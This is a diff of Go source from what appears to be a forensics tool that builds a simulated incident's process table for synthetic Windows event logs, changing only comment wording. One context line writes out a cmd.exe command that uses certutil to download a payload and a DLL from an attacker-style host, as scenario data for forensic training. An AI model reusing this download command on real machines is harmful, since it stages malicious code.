@@ -10,20 +10,19 @@ import (
 	"github.com/birthmark-dfir/birthmark/evtx"
 )
 
-// A process of the story. The Security log and Sysmon both tell of it.
+// A process of the story. The Security log and Sysmon both record it.
 type process struct {
 	pid, parent uint32
 	image, line string
 	user        account
 	logon       uint64
 	session     uint32
-	start, end  string // end is "" where it ran until the machine stopped
+	start, end  string // end is "" if it ran until the machine stopped
 	hashes      string // "" for a program that is not on the volume
 }
 
-// processes is the process table of the day, in order of start. What stands
-// before the restart is another boot than what stands after: PIDs and LogonIds
-// come again.
+// processes is the process table of the day, in order of start. The processes before
+// the restart are of another boot than those after it: PIDs and LogonIds are reused.
 func processes(subjectHashes, genuineHashes string) []process {
 	shell := `"` + system32 + `cmd.exe" /c certutil -urlcache -f ` + depotURL + " " + subject +
 		` & certutil -urlcache -f http://` + depotIP + `/u/sqlhelper.dll ` + companion
@@ -58,8 +57,8 @@ func processes(subjectHashes, genuineHashes string) []process {
 	}
 }
 
-// guid is the ProcessGuid that Sysmon gives a process: of the machine, its start
-// and its token.
+// guid is the ProcessGuid that Sysmon gives a process: of the machine, the start of
+// the process and its token.
 func (p *process) guid() evtx.GUID {
 	g := evtx.GUID{0x2e, 0x1c, 0x3a, 0x5f}
 	start := uint32(at(p.start).Unix())
